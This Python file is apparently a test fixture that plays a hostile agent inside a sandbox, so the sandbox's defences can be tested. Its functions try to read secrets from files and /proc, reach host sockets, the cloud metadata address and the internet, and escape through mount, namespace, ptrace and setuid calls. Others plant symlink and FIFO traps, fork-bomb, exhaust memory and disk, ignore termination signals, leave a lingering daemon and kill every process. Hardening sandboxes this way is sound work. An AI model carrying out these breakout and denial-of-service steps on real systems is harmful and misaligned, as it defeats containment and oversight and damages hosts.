"""An agent that wants out. `python3 hostile_agent.py WAY`; what it found goes to its output. Standard library only.

Not to be run outside a sandbox, but as test_hostile_agent.py does it.
"""
# An attacker calls the system, not its comforts:
# ruff: noqa: PTH101, PTH102, PTH108, PTH110, PTH116, PTH118, PTH123, PTH208, PTH211, SIM105, SIM115

import ctypes.util
import itertools
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

SUBMISSION = Path(os.environ.get("SUBMISSION_DIR", "."))  # the test runner imports this file
LOGS = Path(os.environ.get("LOGS_DIR", "."))
HOST = json.loads(os.environ.get("HOST", "{}"))  # what a spy told it: ports, sockets and paths of the host
CLONE = {"x86_64": 56, "aarch64": 220}.get(os.uname().machine, -1)  # a number that no call has


def search():
    """Read whatever can be read, and say where the secret stands."""
    secret = HOST["secret"].encode()[::-1]
    found = []
    for path in readable_files():
        try:
            with open(path, "rb") as file:
                if secret in file.read(1 << 20):
                    found.append(path)
        except OSError:
            pass
    for path in HOST["paths"]:
        for prefix in ("", "/proc/1/root", "/proc/self/root/..", f"/proc/{os.getppid()}/cwd/../../.."):
            if os.path.exists(prefix + path):
                found.append(prefix + path)
    print(json.dumps({"found": found}))


def readable_files():
    """Every plain file but the system's, and what the kernel tells about each process."""
    for at, folders, files in os.walk("/"):
        if at == "/":
            folders[:] = [name for name in folders if name not in ("usr", "sys", "proc", "nix")]
        if "lib" in folders and "bin" in folders:  # a Python environment
            folders.clear()
        for name in files:
            path = os.path.join(at, name)
            if stat.S_ISREG(os.lstat(path).st_mode):
                yield path
    yield from process_files()


def process_files():
    """What the kernel tells about each process, and what each holds open."""
    for pid in (name for name in os.listdir("/proc") if name.isdigit()):
        for name in ("environ", "cmdline", "maps", "mountinfo", "status"):
            yield f"/proc/{pid}/{name}"
        try:
            files = [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
            yield from (path for path in files if stat.S_ISREG(os.stat(path).st_mode))
        except OSError:
            pass


def network():
    """Connect to everything that it has heard of."""
    reached = []
    targets = [
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", HOST["port"])),
        (socket.AF_INET, socket.SOCK_STREAM, (HOST["address"], HOST["port"])),
        (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443)),
        (socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),
        (socket.AF_INET, socket.SOCK_STREAM, ("10.0.0.1", 80)),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:1.1.1.1", 443)),
        (socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700:4700::1111", 443)),
        (socket.AF_UNIX, socket.SOCK_STREAM, HOST["socket"]),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0" + HOST["abstract"]),
    ]
    for family, kind, address in targets:
        try:
            with socket.socket(family, kind) as client:
                client.settimeout(1)
                client.connect(address)
                reached.append(repr(address))
        except OSError:
            pass
    for family, address in ((socket.AF_INET, ("8.8.8.8", 53)), (socket.AF_INET6, ("2001:4860:4860::8888", 53))):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as client:
                client.sendto(b"\0" * 12, address)
                reached.append(repr(address))
        except OSError:
            pass
    for kind, protocol in ((socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.SOCK_RAW, 58)):
        for family in (socket.AF_INET, socket.AF_INET6, getattr(socket, "AF_PACKET", -1)):
            try:
                socket.socket(family, kind, protocol).close()
                reached.append(f"raw {family} {protocol}")
            except OSError:
                pass
    try:
        reached.append(socket.getaddrinfo("example.com", 80))
    except OSError:
        pass
    print(json.dumps({"found": reached}))


def escape():
    """Try what needs rights that it must not have."""
    libc = ctypes.CDLL(None, use_errno=True)
    done = []
    calls = {
        "mount": lambda: libc.mount(b"none", b"/home/code", b"tmpfs", 0, None),
        "remount": lambda: libc.mount(None, b"/home/data", None, 4096 | 32, None),
        "unmount": lambda: libc.umount2(b"/home/data", 2),
        "proc": lambda: libc.mount(b"proc", b"/home/code", b"proc", 0, None),
        "chroot": lambda: libc.chroot(b"/home"),
        "user namespace": lambda: libc.unshare(0x10000000),
        "user namespace of a child": lambda: min(0, libc.syscall(CLONE, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)),
        "mount namespace": lambda: libc.unshare(0x00020000),
        "network namespace": lambda: libc.unshare(0x40000000),
        "join the first process": lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
        "ptrace the first process": lambda: libc.ptrace(16, 1, None, None),
        "root": lambda: libc.setuid(0),
        "groups": lambda: libc.setgroups(1, (ctypes.c_uint * 1)(0)),
        "host name": lambda: libc.sethostname(b"mine", 4),
        "clock": lambda: libc.settimeofday((ctypes.c_long * 2)(0, 0), None),
        "reboot": lambda: libc.reboot(0x89ABCDEF),  # disables ctrl-alt-del, if it may
        "kernel log": lambda: libc.klogctl(8, None, 1),
        "higher priority": lambda: libc.setpriority(0, 0, -5),
    }
    for name, call in calls.items():
        if os.fork() == 0:
            try:
                os._exit(1 if call() == 0 else 0)
            except OSError:
                os._exit(0)
        if os.wait()[1] != 0:
            done.append(name)
    if libc.kill(HOST["pid"], 0) == 0 and HOST["pid"] > 20:
        done.append("signal the runner")
    for path, device in (("disk", os.makedev(254, 0)), ("memory", os.makedev(1, 1))):
        try:
            os.mknod(path, 0o666 | stat.S_IFBLK, device)
            done.append(f"node for {path}")
        except OSError:
            pass
    for path in (
        *("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/mem", "/proc/1/oom_score_adj"),
        *("/proc/kcore", "/proc/kmsg", "/sys/fs/cgroup/cgroup.procs", "/dev/mem", "/dev/kvm", "/dev/vda"),
    ):
        try:
            os.close(os.open(path, os.O_RDWR))
            done.append(path)
        except OSError:
            pass
    for program in ("su", "sudo", "mount", "passwd"):
        try:
            answer = subprocess.run([program, "-c", "id"], capture_output=True, timeout=5, check=False).stdout
            if answer.startswith(b"uid=0"):
                done.append(program)
        except (OSError, subprocess.TimeoutExpired):
            pass
    print(json.dumps({"found": done}))


def litter():
    """Leave traps for whoever collects the submission."""
    target = SUBMISSION / "submission.csv"
    os.symlink(HOST["paths"][0], target)
    os.symlink("/", SUBMISSION / "everything")
    os.symlink("loop", SUBMISSION / "loop")
    os.mkfifo(SUBMISSION / "pipe.csv")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(SUBMISSION / "s"))
    with open(LOGS / "huge", "wb") as file:
        file.truncate(1 << 40)
    for number in range(100_000):
        os.close(os.open(f"/home/code/{number}", os.O_CREAT | os.O_WRONLY))
    os.mkdir("closed", 0)
    deep = os.open(".", os.O_RDONLY)
    for _ in range(1500):
        os.mkdir("deeper", dir_fd=deep)
        deep, above = os.open("deeper", os.O_RDONLY, dir_fd=deep), deep
        os.close(above)
    os.chmod(LOGS / "huge", 0o4755)


def fork():
    """Multiply without end; children multiply too."""
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def memory():
    """Fill memory from several processes."""
    for _ in range(8):
        try:
            if os.fork() == 0:
                break
        except OSError:
            pass
    kept = []
    while True:
        try:
            kept.append(os.urandom(1 << 20) * 8)
        except MemoryError:
            time.sleep(1)


def shared_memory():
    """Fill memory that belongs to no process."""
    for number in itertools.count():
        try:
            with open(f"/dev/shm/{number}", "wb") as file:
                file.write(bytes(1 << 22))
        except OSError:
            time.sleep(0.1)


def nameless_memory():
    """Fill memory that no process has mapped."""
    kept = []
    while True:
        kept.append(os.memfd_create("x"))
        os.write(kept[-1], bytes(1 << 22))


def disk():
    """Fill the disk with files that no folder lists."""
    kept = []
    for number in itertools.count():
        file = open(f"/tmp/{number}", "wb", buffering=0)
        os.unlink(f"/tmp/{number}")
        kept.append(file)
        file.write(bytes(1 << 22))


def deep_disk():
    """Fill the disk where paths are too long to be named."""
    at = os.open("/tmp", os.O_RDONLY)
    for _ in range(600):
        os.mkdir("x" * 200, dir_fd=at)
        at, above = os.open("x" * 200, os.O_RDONLY, dir_fd=at), at
        os.close(above)
    time.sleep(60)


def stubborn():
    """Refuse to end."""
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT):
        signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(60)


def daemon():
    """End at once, and leave a process that nobody asked for."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.execvp("python3", ["python3", "-c", "import time; time.sleep(600)", HOST["marker"]])
        os._exit(0)
    os.wait()
    time.sleep(0.5)


def parricide():
    """Kill all that it may."""
    os.kill(-1, signal.SIGKILL)


if __name__ == "__main__":
    globals()[sys.argv[1]]()
